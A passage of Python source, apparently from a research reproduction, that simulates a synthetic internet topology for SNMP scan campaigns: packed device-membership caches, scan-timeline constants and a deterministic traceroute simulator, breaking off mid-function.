    address as a 128-bit big-endian integer).  A packed record is a
    single gc-untracked ~20-60 byte string, so caching every slot of a
    ~930k-target world costs megabytes — against the hundreds of MB
    (and whole-heap gc scans) a cache of live dataclass records incurs.
    """
    flags = record.snmp_open | record.dhcp_pool << 1
    parts = [flags.to_bytes(1, "big")]
    for interface in record.interfaces:
        address = interface.address
        meta = interface.snmp_reachable | (address.version == 6) << 1
        parts.append(meta.to_bytes(1, "big"))
        parts.append(int(address).to_bytes(16, "big"))
    return b"".join(parts)


def _unpack_membership(slot: DeviceSlot, packed: bytes) -> SlotMembership:
    """Inverse of :func:`_pack_membership` (value-identical record)."""
    flags = packed[0]
    interfaces = []
    for pos in range(1, len(packed), 17):
        meta = packed[pos]
        addr_int = int.from_bytes(packed[pos + 1:pos + 17], "big")
        interfaces.append(MembershipInterface(
            address=(
                ipaddress.IPv6Address(addr_int)
                if meta & 2
                else ipaddress.IPv4Address(addr_int)
            ),
            snmp_reachable=bool(meta & 1),
        ))
    return SlotMembership(
        device_id=slot.device_id,
        device_type=slot.device_type,
        snmp_open=bool(flags & 1),
        dhcp_pool=bool(flags & 2),
        interfaces=tuple(interfaces),
    )


def _router_membership(cfg: TopologyConfig, rng: random.Random,
                       alloc: _SlotAllocator, as_plan: AsPlan,
                       asys: AutonomousSystem, slot: DeviceSlot) -> SlotMembership:
    # Draw-for-draw prefix of derive_router() up to (not including) the
    # engine-ID derivation.
    region_share = cfg.router_vendor_share[as_plan.region]
    if rng.random() < as_plan.dominance:
        vendor = as_plan.primary_vendor
    else:
        others = {
            v: w for v, w in region_share.items()
            if v != as_plan.primary_vendor and w > 0
        }
        if not others:
            vendor = as_plan.primary_vendor
        else:
            vendor = rng.choices(list(others), weights=list(others.values()))[0]

    roll = rng.random()
    if roll < cfg.router_dual_frac:
        protocol = "dual"
    elif roll < cfg.router_dual_frac + cfg.router_v6_only_frac:
        protocol = "v6"
    else:
        protocol = "v4"
    n_ifaces = int(rng.lognormvariate(cfg.router_iface_mu, cfg.router_iface_sigma)) + 1
    if protocol == "dual":
        n_ifaces = int(n_ifaces * cfg.dual_stack_iface_boost) + 2
    n_ifaces = min(n_ifaces, alloc.iface_cap(protocol))

    first_mac = alloc.next_mac(vendor, n_ifaces)
    open_prob = as_plan.open_rate
    if vendor == "Juniper":
        open_prob *= cfg.juniper_open_factor
    snmp_open = rng.random() < open_prob

    interfaces: list[MembershipInterface] = []
    for i in range(n_ifaces):
        mac = first_mac.successor(i)
        if protocol == "v4":
            address: IPAddress = alloc.alloc_v4(asys)
        elif protocol == "v6":
            address = (
                alloc.alloc_v6_eui64(asys, mac)
                if rng.random() < cfg.eui64_v6_frac
                else alloc.alloc_v6(asys)
            )
        else:
            if i % 3:
                address = alloc.alloc_v4(asys)
            elif rng.random() < cfg.eui64_v6_frac:
                address = alloc.alloc_v6_eui64(asys, mac)
            else:
                address = alloc.alloc_v6(asys)
        reachable = rng.random() >= cfg.acl_interface_frac
        interfaces.append(
            MembershipInterface(address=address, snmp_reachable=reachable)
        )
    return SlotMembership(
        device_id=slot.device_id,
        device_type=DeviceType.ROUTER,
        snmp_open=snmp_open,
        dhcp_pool=False,
        interfaces=tuple(interfaces),
    )


def _endhost_membership(cfg: TopologyConfig, rng: random.Random,
                        alloc: _SlotAllocator, asys: AutonomousSystem,
                        slot: DeviceSlot) -> SlotMembership:
    # Draw-for-draw prefix of derive_device()+derive_endhost(); unused
    # rolls (skew width, open TCP) still advance the stream.
    share = (
        cfg.server_vendor_share
        if slot.device_type is DeviceType.SERVER
        else cfg.cpe_vendor_share
    )
    vendors = list(share)
    vendor = rng.choices(vendors, weights=[share[v] for v in vendors])[0]
    if slot.device_type is DeviceType.SERVER:
        roll = rng.random()
        dual = roll < cfg.server_dual_frac
        v6 = not dual and roll < cfg.server_dual_frac + cfg.server_v6_frac
        snmp_open = rng.random() < cfg.server_snmp_open
        dhcp = False
        rng.random()  # open_tcp roll
    else:
        roll = rng.random()
        dual = roll < cfg.cpe_dual_frac
        v6 = not dual and roll < cfg.cpe_dual_frac + cfg.cpe_v6_frac
        rng.random()  # skew-width roll
        snmp_open = rng.random() < cfg.cpe_snmp_open
        dhcp = rng.random() < cfg.cpe_dhcp_churn_frac
        rng.random()  # open_tcp roll

    if slot.device_type is DeviceType.SERVER \
            and rng.random() < cfg.server_multi_ip_frac:
        n_addrs = rng.randint(2, cfg.server_multi_ip_max)
    elif slot.device_type is DeviceType.CPE and not dhcp \
            and rng.random() < cfg.cpe_multi_ip_frac:
        n_addrs = rng.randint(2, cfg.cpe_multi_ip_max)
    else:
        n_addrs = 1

    mac = alloc.next_mac(vendor, count=max(1, n_addrs))

    def alloc_v6_for(nic_mac: MacAddress) -> ipaddress.IPv6Address:
        if rng.random() < cfg.eui64_v6_frac:
            return alloc.alloc_v6_eui64(asys, nic_mac)
        return alloc.alloc_v6(asys)

    interfaces: list[MembershipInterface] = []
    if dual:
        interfaces.append(MembershipInterface(address=alloc.alloc_v4(asys)))
        interfaces.append(MembershipInterface(address=alloc_v6_for(mac)))
        n_addrs = max(0, n_addrs - 2)
    elif v6:
        for i in range(n_addrs):
            nic = mac.successor(i)
            interfaces.append(MembershipInterface(address=alloc_v6_for(nic)))
        n_addrs = 0
    for __ in range(n_addrs):
        interfaces.append(MembershipInterface(address=alloc.alloc_v4(asys)))
    return SlotMembership(
        device_id=slot.device_id,
        device_type=slot.device_type,
        snmp_open=snmp_open,
        dhcp_pool=dhcp,
        interfaces=tuple(interfaces),
    )


def derive_membership(cfg: TopologyConfig, registry: OuiRegistry,
                      plan: StreamPlan, slot: DeviceSlot,
                      asys: AutonomousSystem) -> "SlotMembership | None":
    """Membership facts for one slot without materializing the device.

    Returns ``None`` for load balancers: their per-backend agent draws
    precede the ``snmp_open`` roll, so there is no cheap prefix — callers
    fall back to full materialization (LB slots are a sliver of the world).
    """
    if slot.device_type is DeviceType.LOAD_BALANCER:
        return None
    as_plan = plan.as_plan(slot.asn)
    rng = random.Random(mix(plan.seed, "device", slot.asn, slot.index))
    mac_rng = random.Random(mix(plan.seed, "mac", slot.asn, slot.index))
    alloc = _SlotAllocator(registry=registry, plan=plan, as_plan=as_plan,
                           slot=slot, rng=mac_rng)
    if slot.device_type is DeviceType.ROUTER:
        return _router_membership(cfg, rng, alloc, as_plan, asys, slot)
    return _endhost_membership(cfg, rng, alloc, asys, slot)


# -- between-scan events as pure functions --------------------------------------


def reboot_time(seed: int, device_id: int) -> float:
    """When a ``reboot_between_scans`` device reboots (same window as the
    sequential campaign scheduler)."""
    rng = random.Random(mix(seed, "reboot", device_id))
    return rng.uniform(timeline.SCAN1_V6_START,
                       timeline.SCAN2_V4_START + timeline.SCAN2_V4_DURATION)


def churn_roll(seed: int, version: int, address: IPAddress) -> bool:
    """Whether one bound DHCP-pool address churns before the second scan."""
    rng = random.Random(mix(seed, "churn", version, int(address)))
    return rng.random() < CHURN_PROBABILITY[version]


def derive_churn_rotation(
    seed: int, version: int,
    devices: "Iterable[Device | SlotMembership]",
) -> dict[IPAddress, int]:
    """DHCP churn for one AS: rotate churned addresses between pool members.

    ``devices`` must arrive in slot order; eligibility and the roll are
    pure functions of ``(seed, version, address)``, so lazy and eager
    campaigns derive the same rotation.  Accepts full devices or
    :class:`SlotMembership` records interchangeably — it reads only the
    membership surface.
    """
    eligible: list[tuple[IPAddress, int]] = []
    for device in devices:
        if not (device.dhcp_pool and device.snmp_open):
            continue
        for interface in device.interfaces:
            if interface.version != version or not interface.snmp_reachable:
                continue
            if churn_roll(seed, version, interface.address):
                eligible.append((interface.address, device.device_id))
    if len(eligible) < 2:
        return {}
    owners = [owner for __, owner in eligible]
    rotated = owners[1:] + owners[:1]
    return {
        address: new_owner
        for (address, __), new_owner in zip(eligible, rotated)
    }


# -- the lazy view ---------------------------------------------------------------


class _SweepCache:
    """Bounded LRU with miss-streak bypass — sweep-aware residency.

    Shard plans sweep a planning window's slots cyclically, and a cyclic
    reference string one element longer than the cache is plain LRU's
    worst case: every access evicts exactly the entry needed soonest, so
    the hit rate collapses to zero while eviction work is maximal.  This
    variant counts consecutive misses; once the streak exceeds capacity
    (proof the live working set cannot fit), new entries are *bypassed*
    instead of admitted, so a resident subset survives the sweep and
    serves Θ(capacity) hits on later passes.  A single hit resets the
    streak and resumes normal LRU — shrinking working sets reclaim the
    cache immediately.  Purely deterministic: admission depends only on
    the access sequence.
    """

    __slots__ = ("_capacity", "_data", "_miss_streak")

    def __init__(self, capacity: int) -> None:
        self._capacity = max(capacity, 1)
        self._data: OrderedDict = OrderedDict()
        self._miss_streak = 0

    def __len__(self) -> int:
        return len(self._data)

    def get(self, key: object) -> "object | None":
        entry = self._data.get(key)
        if entry is not None:
            self._data.move_to_end(key)
            self._miss_streak = 0
        else:
            self._miss_streak += 1
        return entry

    def put(self, key: object, value: object) -> None:
        """Admit ``key`` unless mid-bypass (call after a missed ``get``)."""
        data = self._data
        if key in data:
            data[key] = value
            data.move_to_end(key)
            return
        if len(data) >= self._capacity and self._miss_streak > self._capacity:
            return
        data[key] = value
        while len(data) > self._capacity:
            data.popitem(last=False)

    def access(self, key: object, value: object) -> None:
        """Combined touch-or-admit for callers that already hold the value."""
        if key in self._data:
            self._data.move_to_end(key)
            self._miss_streak = 0
            return
        self._miss_streak += 1
        self.put(key, value)


#: Worlds with at most this many slots store packed memberships in a
#: flat slot-indexed list (full coverage, no per-entry dict overhead);
#: larger worlds fall back to the sweep-aware LRU.
_SLOT_STORE_MAX = 524_288


class _SlotStore:
    """Full-coverage packed-membership store, indexed by device id.

    One pointer per slot plus the packed bytes themselves — ~4.4 MB for
    a ~930k-target world, an order of magnitude under the equivalent
    LRU dict — with O(1) gets that never evict.  Only used when the
    world is small enough that one pointer per slot is affordable;
    beyond :data:`_SLOT_STORE_MAX` the sweep-aware LRU takes over.
    """

    __slots__ = ("_data", "_count")

    def __init__(self, n_slots: int) -> None:
        self._data: "list[bytes | None]" = [None] * (n_slots + 1)
        self._count = 0

    def __len__(self) -> int:
        return self._count

    def get(self, key: int) -> "bytes | None":
        return self._data[key]

    def put(self, key: int, value: bytes) -> None:
        if self._data[key] is None:
            self._count += 1
        self._data[key] = value


class _LazyDeviceMap(Mapping):
    """``device_id -> Device`` view that derives through the cache."""

    def __init__(self, topology: "LazyTopology") -> None:
        self._topology = topology

    def __getitem__(self, device_id: int) -> Device:
        slot = self._topology.plan.slot_of_device_id(device_id)
        if slot is None:
            raise KeyError(device_id)
        return self._topology.device_at(slot)

    def __len__(self) -> int:
        return self._topology.plan.device_count

    def __iter__(self) -> Iterator[int]:
        return iter(range(1, self._topology.plan.device_count + 1))


class LazyTopology:
    """A windowed view of a streamed world.

    Exposes the slices of the ``Topology`` surface campaigns consume
    (``seed``, ``epoch``, ``devices``, ownership lookups) while holding
    at most ``max_resident`` strongly-referenced devices.  A weak-value
    canonical map guarantees that while *anyone* (shard snapshots, the
    fabric resolver, result handlers) still references a device, every
    lookup returns that same object — required for agent-state
    snapshot/restore correctness — without pinning the world in memory.
    """

    layout = "streamed"

    def __init__(self, *, config: TopologyConfig,
                 registry: "OuiRegistry | None" = None,
                 max_resident: "int | None" = None) -> None:
        if config.layout != "streamed":
            raise ValueError(
                "LazyTopology requires TopologyConfig(layout='streamed'); "
                f"got layout={config.layout!r}"
            )
        self.config = config
        self.registry = registry or default_registry()
        self.plan = StreamPlan(config=config)
        self.seed = config.seed
        self.epoch = timeline.REFERENCE_TIME
        self.shared = derive_shared_populations(config)
        self.ases = build_as_objects(self.plan)
        self.devices: Mapping[int, Device] = _LazyDeviceMap(self)
        resident = max_resident if max_resident is not None else config.stream_max_resident
        self._max_resident = max(resident, 512)
        self._canonical: "weakref.WeakValueDictionary[tuple[int, int], Device]" = (
            weakref.WeakValueDictionary()
        )
        self._recent = _SweepCache(self._max_resident)
        # Membership facts are cached *byte-packed* (one gc-untracked
        # string of ~20-60 bytes per slot, keyed by device id), so full
        # coverage of a ~930k-target world costs megabytes and adds no
        # object population for the collector to sweep.  Small-enough
        # worlds get a flat slot-indexed store (full coverage, no dict
        # overhead); beyond that the sweep-aware LRU bounds residency
        # and its bypass keeps a resident subset serving hits.  Two
        # byte-per-slot tables remember the cheap verdicts for every
        # slot ever derived: ``_openness`` (0 unknown / 1 open /
        # 2 closed) lets ``binding_of`` and the executor's snapshot
        # filter reject closed slots without a record, and
        # ``_pool_flags`` (0 unknown / 1 churn-eligible / 2 not) lets
        # churn-map builds skip slots that can never join a rotation.
        self._memberships: "_SlotStore | _SweepCache" = (
            _SlotStore(self.plan.device_count)
            if self.plan.device_count <= _SLOT_STORE_MAX
            else _SweepCache(max(131072, 4 * self._max_resident))
        )
        n_slots = self.plan.device_count + 1
        self._openness = bytearray(n_slots)
        self._pool_flags = bytearray(n_slots)
        self._now = float("-inf")
        self._churn_versions: list[int] = []
        self._churn_maps: "OrderedDict[tuple[int, int], dict[IPAddress, int]]" = (
            OrderedDict()
        )
        self._churn_entries = 0
        #: High-water mark of simultaneously materialized devices.
        self.peak_resident = 0
        #: Total derivations (cache misses); re-derivation is correct but
        #: costs time, so benchmarks watch this.
        self.derivations = 0
        #: Membership-only derivations (the cheap fast path).
        self.membership_derivations = 0
        #: Wall-clock seconds spent deriving devices or membership records
        #: (the campaign profile's ``derive`` stage).
        self.derive_seconds = 0.0

    # -- materialization ----------------------------------------------------

    def device_at(self, slot: DeviceSlot) -> Device:
        key = (slot.asn, slot.index)
        device = self._canonical.get(key)
        if device is None:
            began = time.perf_counter()
            device = derive_device(self.config, self.registry, self.plan,
                                   slot, self.shared, self.ases)
            self.derive_seconds += time.perf_counter() - began
            self.derivations += 1
            self._canonical[key] = device
            self._apply_reboot(device)
            self._openness[device.device_id] = 1 if device.snmp_open else 2
            self._pool_flags[device.device_id] = (
                1 if (device.dhcp_pool and device.snmp_open) else 2
            )
        self._recent.access(key, device)
        resident = len(self._canonical)
        if resident > self.peak_resident:
            self.peak_resident = resident
        return device

    def membership_at(self, slot: DeviceSlot) -> SlotMembership:
        """Ownership facts for one slot, materializing nothing if possible."""
        packed = self._memberships.get(slot.device_id)
        if packed is not None:
            return _unpack_membership(slot, packed)  # type: ignore[arg-type]
        return self._derive_membership_record(slot)

    def _derive_membership_record(self, slot: DeviceSlot) -> SlotMembership:
        """Cache miss path: derive, flag, and byte-pack one slot."""
        device = self._canonical.get((slot.asn, slot.index))
        if device is not None:
            record = membership_of_device(device)
        else:
            began = time.perf_counter()
            record = derive_membership(self.config, self.registry, self.plan,
                                       slot, self.ases[slot.asn])
            self.derive_seconds += time.perf_counter() - began
            if record is None:
                record = membership_of_device(self.device_at(slot))
            else:
                self.membership_derivations += 1
        self._openness[record.device_id] = 1 if record.snmp_open else 2
        self._pool_flags[record.device_id] = (
            1 if (record.dhcp_pool and record.snmp_open) else 2
        )
        self._memberships.put(slot.device_id, _pack_membership(record))
        return record

    def device_for_id(self, device_id: int) -> "Device | None":
        slot = self.plan.slot_of_device_id(device_id)
        if slot is None:
            return None
        return self.device_at(slot)

    def materialize(self) -> "object":
        """Eagerly build the equivalent ``Topology`` (differential tests)."""
        return TopologyGenerator(config=self.config, registry=self.registry).build()

    # -- between-scan events ------------------------------------------------

    def advance_clock(self, now: float) -> None:
        """Apply due reboots to every live device; later derivations apply
        them at materialization time."""
        if now <= self._now:
            return
        self._now = now
        for device in list(self._canonical.values()):
            self._apply_reboot(device)

    def _apply_reboot(self, device: Device) -> None:
        if not getattr(device, "reboot_between_scans", False):
            return
        if getattr(device, "_lazy_rebooted", False):
            return
        when = reboot_time(self.seed, device.device_id)
        if when <= self._now:
            device.agent.reboot(when)
            device._lazy_rebooted = True  # type: ignore[attr-defined]

    def activate_churn(self, version: int) -> None:
        """Enable DHCP churn for one address family (idempotent)."""
        if version not in self._churn_versions:
            self._churn_versions.append(version)
            self._churn_maps.clear()
            self._churn_entries = 0

    @property
    def churn_versions(self) -> tuple[int, ...]:
        return tuple(self._churn_versions)

    def churn_map(self, version: int, asn: int) -> dict[IPAddress, int]:
        key = (version, asn)
        cached = self._churn_maps.get(key)
        if cached is not None:
            self._churn_maps.move_to_end(key)
            return cached
        as_plan = self.plan.as_plan(asn)
        # Only CPE devices can carry ``dhcp_pool`` (routers, servers and
        # load balancers hard-code it off), and ``derive_churn_rotation``
        # drops every member failing ``dhcp_pool and snmp_open`` — so
        # sweeping just the CPE index range, and within it skipping slots
        # already known churn-ineligible, feeds the rotation the exact
        # same eligible sequence in the same slot order.  After the first
        # scan has populated ``_pool_flags``, a map build derives only
        # the pool members themselves instead of the whole AS.
        first_cpe = as_plan.n_routers + as_plan.n_servers
        pool_flags = self._pool_flags
        base = as_plan.device_id_base
        members = (
            self.membership_at(self.plan._slot(as_plan, index))
            for index in range(first_cpe, first_cpe + as_plan.n_cpe)
            if pool_flags[base + index] != 2
        )
        rotation = derive_churn_rotation(self.seed, version, members)
        self._churn_maps[key] = rotation
        self._churn_entries += len(rotation)
        # Rebuilding a map re-derives every member of the AS, and shard
        # passes sweep a planning window's ASes cyclically — LRU's worst
        # case.  The caps therefore sit well above the AS span of one
        # 65536-target window (so each map builds once per scan) while
        # staying O(1): entries are address->int pairs, not devices.
        while len(self._churn_maps) > _CHURN_MAP_CAP or (
            self._churn_entries > _CHURN_ENTRY_BUDGET
            and len(self._churn_maps) > 1
        ):
            __, evicted = self._churn_maps.popitem(last=False)
            self._churn_entries -= len(evicted)
        return rotation

    # -- ownership / binding ------------------------------------------------

    def owner_of(self, address: IPAddress) -> "int | None":
        """Slot owner with churn overlays (the shard-planner's view)."""
        slot = self.plan.locate(address)
        if slot is None:
            return None
        for version in self._churn_versions:
            if version != address.version:
                continue
            new_owner = self.churn_map(version, slot.asn).get(address)
            if new_owner is not None:
                return new_owner
        return slot.device_id

    def owners_of(self, addresses: "list[IPAddress]") -> "list[int | None]":
        """Batch :meth:`owner_of` over one planning window.

        Same answers, one call: the plan arithmetic binds once, and churn
        maps resolve through a window-local overlay cache so each AS's
        rotation is fetched once per window rather than once per address.
        """
        versions = self._churn_versions
        if not versions:
            return self.plan.owner_ids(addresses)
        # Churn overlay path: the same inline arithmetic as
        # :meth:`StreamPlan.owner_ids` (the AS plan is needed here for
        # its asn, so the shared batch helper cannot be reused), with a
        # window-local rotation cache so each AS's churn map is fetched
        # once per window rather than once per address.
        stream_plan = self.plan
        by_v4_prefix = stream_plan._by_v4_prefix.get
        plans = stream_plan.plans
        n_plans = len(plans)
        block = stream_plan.block
        churned = set(versions)
        maps: "dict[tuple[int, int], dict[IPAddress, int]]" = {}
        out: "list[int | None]" = []
        append = out.append
        for address in addresses:
            addr_int = int(address)
            version = address.version
            if version == 4:
                plan = by_v4_prefix(addr_int >> 16)
                if plan is None:
                    append(None)
                    continue
                offset = addr_int & 0xFFFF
                if offset < 1:
                    append(None)
                    continue
                index = (offset - 1) // block
            else:
                if addr_int < _V6_ORIGIN:
                    append(None)
                    continue
                as_index = (addr_int - _V6_ORIGIN) >> 96
                if as_index >= n_plans:
                    append(None)
                    continue
                plan = plans[as_index]
                index = (addr_int >> 64) & 0xFFFFFFFF
            if index >= plan.n_devices:
                append(None)
                continue
            owner = plan.device_id_base + index
            if version in churned:
                key = (version, plan.asn)
                rotation = maps.get(key)
                if rotation is None:
                    rotation = self.churn_map(version, plan.asn)
                    maps[key] = rotation
                new_owner = rotation.get(address)
                if new_owner is not None:
                    owner = new_owner
            append(owner)
        return out

    def binding_of(self, address: IPAddress) -> "Device | None":
        """The device answering SNMP at ``address``, or ``None``.

        Mirrors the eager campaign's binding rules: open devices bind
        their reachable interfaces; churned addresses rebind to the
        rotated pool member unconditionally.  Fast-rejects through the
        membership record — most swept addresses are unbound, closed or
        ACL-filtered, and those answers never materialize a device.
        """
        slot = self.plan.locate(address)
        if slot is None:
            return None
        for version in self._churn_versions:
            if version != address.version:
                continue
            new_owner = self.churn_map(version, slot.asn).get(address)
            if new_owner is not None:
                return self.device_for_id(new_owner)
        if self._openness[slot.device_id] == 2:
            return None
        packed = self._memberships.get(slot.device_id)
        if packed is None:
            membership = self._derive_membership_record(slot)
            if not membership.snmp_open:
                return None
            for interface in membership.interfaces:
                if interface.address == address:
                    if not interface.snmp_reachable:
                        return None
                    return self.device_at(slot)
            return None
        # Packed fast path: answer the per-probe question — open, bound
        # here, reachable — straight off the cached bytes, constructing
        # no record and no address objects.
        if not packed[0] & 1:  # type: ignore[index]
            return None
        target = int(address)
        want_v6 = 2 if address.version == 6 else 0
        for pos in range(1, len(packed), 17):  # type: ignore[arg-type]
            meta = packed[pos]  # type: ignore[index]
            if (meta & 2) == want_v6 and target == int.from_bytes(
                packed[pos + 1:pos + 17], "big"  # type: ignore[index]
            ):
                if not meta & 1:
                    return None
                return self.device_at(slot)
        return None

    def open_device_ids(self, device_ids: "Iterable[int]") -> "list[int]":
        """Subset of ``device_ids`` whose slots can answer SNMP.

        The executor's shard snapshot filter: a closed device's agent is
        never invoked (``binding_of`` rejects it before materialization),
        so its snapshot/restore pair is a no-op and can be skipped
        without touching byte-identity.  Unknown slots derive their
        membership record here — work ``binding_of`` would do for the
        same shard's probes anyway, just paid at plan time.
        """
        openness = self._openness
        out: "list[int]" = []
        append = out.append
        slot_of = self.plan.slot_of_device_id
        for device_id in device_ids:
            flag = openness[device_id]
            if flag == 0:
                slot = slot_of(device_id)
                if slot is None:
                    continue
                flag = 1 if self.membership_at(slot).snmp_open else 2
            if flag == 1:
                append(device_id)
        return out

    def device_of_address(self, address: IPAddress) -> "Device | None":
        """Ground truth including churn overlays (``Topology`` parity)."""
        owner = self.owner_of(address)
        if owner is None:
            return None
        return self.device_for_id(owner)

    # -- statistics ---------------------------------------------------------

    @property
    def device_count(self) -> int:
        return self.plan.device_count

    @property
    def max_resident(self) -> int:
        """The residency cap consumers should budget strong refs against."""
        return self._max_resident

    @property
    def resident_count(self) -> int:
        return len(self._canonical)
