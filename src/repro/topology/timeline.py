"""Simulation timeline constants.

Simulation time is Unix time (seconds).  The scan campaign dates follow
the paper's Table 1: two IPv4 scans in mid/late April 2021 and two IPv6
scans on consecutive days.  Uptimes reach back years (Figure 7's x-axis
spans 2014–2021), so device boot times are sampled far before the scans.
"""

from __future__ import annotations

import calendar

_DAY = 86_400.0


def _utc(year: int, month: int, day: int) -> float:
    return float(calendar.timegm((year, month, day, 0, 0, 0)))


#: IPv4 scan 1: April 16–20, 2021.
SCAN1_V4_START = _utc(2021, 4, 16)
SCAN1_V4_DURATION = 4 * _DAY

#: IPv4 scan 2: April 22–27, 2021.
SCAN2_V4_START = _utc(2021, 4, 22)
SCAN2_V4_DURATION = 5 * _DAY

#: IPv6 scan 1: April 13, 2021.
SCAN1_V6_START = _utc(2021, 4, 13)
SCAN1_V6_DURATION = 0.5 * _DAY

#: IPv6 scan 2: April 14, 2021.
SCAN2_V6_START = _utc(2021, 4, 14)
SCAN2_V6_DURATION = 0.5 * _DAY

#: Reference "now" used when deriving calendar statistics (Figure 13).
REFERENCE_TIME = SCAN1_V4_START

SECONDS_PER_DAY = _DAY
SECONDS_PER_YEAR = 365.25 * _DAY


def year_start(timestamp: float) -> float:
    """Unix time of January 1st of the year containing ``timestamp``."""
    import time

    year = time.gmtime(int(timestamp)).tm_year
    return _utc(year, 1, 1)
