"""Traceroute simulation: the substrate behind the RIPE Atlas view.

The paper tags router interfaces using "intermediate hop IPs extracted
from RIPE Atlas traceroute measurements".  Instead of sampling that view
directly, this module simulates the measurement: vantage points run
traceroutes toward targets, and every *intermediate* hop that reveals
itself contributes a router interface address.

Path model (deterministic given the topology seed):

* each AS designates **core routers** (its largest routers) that carry
  transit traffic and **edge routers** that face customers;
* a trace enters through the source AS's core, crosses 0–3 transit ASes
  (chosen by a stable hash of the AS pair), descends through the
  destination AS's core and edge, then reaches the target;
* routers answer time-exceeded probes per-device with a stable
  probability — silent hops appear as the familiar ``* * *`` and
  contribute nothing, which is exactly why traceroute-derived router
  sets are incomplete.
"""

from __future__ import annotations

import random
import zlib
from dataclasses import dataclass, field

from repro.net.addresses import IPAddress
from repro.topology.model import Device, DeviceType, Topology

#: Probability that a router reveals itself in traceroutes at all
#: (ICMP time-exceeded generation enabled and not filtered).
DEFAULT_HOP_VISIBILITY = 0.8


@dataclass
class TracerouteHop:
    """One line of traceroute output."""

    ttl: int
    address: "IPAddress | None"   # None = the hop stayed silent ("* * *")

    @property
    def responded(self) -> bool:
        return self.address is not None


@dataclass
class TracerouteEngine:
    """Deterministic path synthesis over the simulated topology."""

    topology: Topology
    hop_visibility: float = DEFAULT_HOP_VISIBILITY
    seed: int = 0x7A5E

    _core: dict[int, list[Device]] = field(default_factory=dict, repr=False)
    _edge: dict[int, list[Device]] = field(default_factory=dict, repr=False)
    _visible: dict[int, bool] = field(default_factory=dict, repr=False)
    #: (device id, family) -> candidate hop addresses.  Interface sets are
    #: immutable for a topology's lifetime (churn rebinds the fabric, it
    #: never re-plumbs devices), so hop selection reuses them across the
    #: tens of thousands of traces a campaign runs.
    _hop_candidates: "dict[tuple[int, int], list[IPAddress]]" = field(
        default_factory=dict, repr=False
    )
    #: (src asn, dst asn) -> transit ASNs; pure in the AS pair, and a
    #: campaign reuses each pair for thousands of targets.
    _transit_cache: "dict[tuple[int, int], list[int]]" = field(
        default_factory=dict, repr=False
    )
    _all_asns: "list[int]" = field(default_factory=list, repr=False)

    def __post_init__(self) -> None:
        self._all_asns = sorted(self.topology.ases)
        rng = random.Random(self.seed ^ self.topology.seed)
        for asys in self.topology.ases.values():
            routers = [
                d for d in self.topology.devices_in_as(asys.asn)
                if d.device_type is DeviceType.ROUTER
            ]
            routers.sort(key=lambda d: (-len(d.interfaces), d.device_id))
            n_core = max(1, len(routers) // 5)
            self._core[asys.asn] = routers[:n_core]
            self._edge[asys.asn] = routers[n_core:] or routers
        for device in self.topology.routers():
            self._visible[device.device_id] = rng.random() < self.hop_visibility

    # -- path construction ----------------------------------------------------

    def _pick(self, routers: "list[Device]", key: int) -> "Device | None":
        if not routers:
            return None
        return routers[key % len(routers)]

    def _interface_of(self, device: Device, version: int, key: int) -> "IPAddress | None":
        cache_key = (device.device_id, version)
        candidates = self._hop_candidates.get(cache_key)
        if candidates is None:
            candidates = [
                i.address for i in device.interfaces if i.version == version
            ]
            self._hop_candidates[cache_key] = candidates
        if not candidates:
            return None
        return candidates[key % len(candidates)]

    def _transit_path(self, src_asn: int, dst_asn: int) -> list[int]:
        """Stable intermediate-AS selection for an AS pair (memoized)."""
        if src_asn == dst_asn:
            return []
        key = (src_asn, dst_asn)
        cached = self._transit_cache.get(key)
        if cached is not None:
            return cached
        digest = zlib.crc32(f"{src_asn}-{dst_asn}".encode())
        all_asns = self._all_asns
        hops = digest % 4  # 0..3 transit networks
        path = [
            all_asns[(digest >> (4 * (i + 1))) % len(all_asns)]
            for i in range(hops)
            if all_asns[(digest >> (4 * (i + 1))) % len(all_asns)] not in (src_asn, dst_asn)
        ]
        self._transit_cache[key] = path
        return path

    def trace(self, src_asn: int, target: IPAddress) -> list[TracerouteHop]:
        """Run one traceroute; returns the hop list including the target."""
        destination = self.topology.device_of_address(target)
        if destination is None:
            return []
        version = target.version
        digest = zlib.crc32(f"{src_asn}->{target}".encode())
        router_path: list[Device] = []

        src_core = self._pick(self._core.get(src_asn, []), digest)
        if src_core is not None:
            router_path.append(src_core)
        for asn in self._transit_path(src_asn, destination.asn):
            transit = self._pick(self._core.get(asn, []), digest >> 8)
            if transit is not None:
                router_path.append(transit)
        dst_core = self._pick(self._core.get(destination.asn, []), digest >> 16)
        if dst_core is not None and dst_core not in router_path:
            router_path.append(dst_core)
        if destination.device_type is not DeviceType.ROUTER:
            dst_edge = self._pick(self._edge.get(destination.asn, []), digest >> 20)
            if dst_edge is not None and dst_edge not in router_path:
                router_path.append(dst_edge)

        hops: list[TracerouteHop] = []
        ttl = 0
        for device in router_path:
            ttl += 1
            address = self._interface_of(device, version, digest >> 12)
            if address is None or not self._visible.get(device.device_id, False):
                hops.append(TracerouteHop(ttl=ttl, address=None))
            else:
                hops.append(TracerouteHop(ttl=ttl, address=address))
        hops.append(TracerouteHop(ttl=ttl + 1, address=target))
        return hops

    # -- measurement campaigns -----------------------------------------------------

    def atlas_campaign(
        self,
        vantage_asns: "list[int]",
        targets: "list[IPAddress]",
    ) -> set[IPAddress]:
        """RIPE-Atlas-style sweep: intermediate hops from many vantages.

        Returns the set of revealed *intermediate* router interface
        addresses (final targets excluded, as in the paper's tagging).

        Replays :meth:`trace`'s path construction inline without building
        :class:`TracerouteHop` rows — tens of thousands of traces per
        campaign make the per-hop allocations the dominant cost — so the
        revealed set is identical to collecting ``trace()`` responders.
        """
        revealed: set[IPAddress] = set()
        add = revealed.add
        device_of = self.topology.device_of_address
        visible = self._visible.get
        core = self._core.get
        edge = self._edge.get
        pick = self._pick
        interface_of = self._interface_of
        n_vantages = len(vantage_asns)
        empty: "list[Device]" = []
        for index, target in enumerate(targets):
            vantage = vantage_asns[index % n_vantages]
            destination = device_of(target)
            if destination is None:
                continue
            version = target.version
            digest = zlib.crc32(f"{vantage}->{target}".encode())
            router_path: "list[Device]" = []
            src_core = pick(core(vantage, empty), digest)
            if src_core is not None:
                router_path.append(src_core)
            for asn in self._transit_path(vantage, destination.asn):
                transit = pick(core(asn, empty), digest >> 8)
                if transit is not None:
                    router_path.append(transit)
            dst_core = pick(core(destination.asn, empty), digest >> 16)
            if dst_core is not None and dst_core not in router_path:
                router_path.append(dst_core)
            if destination.device_type is not DeviceType.ROUTER:
                dst_edge = pick(edge(destination.asn, empty), digest >> 20)
                if dst_edge is not None and dst_edge not in router_path:
                    router_path.append(dst_edge)
            hop_key = digest >> 12
            for device in router_path:
                if not visible(device.device_id, False):
                    continue
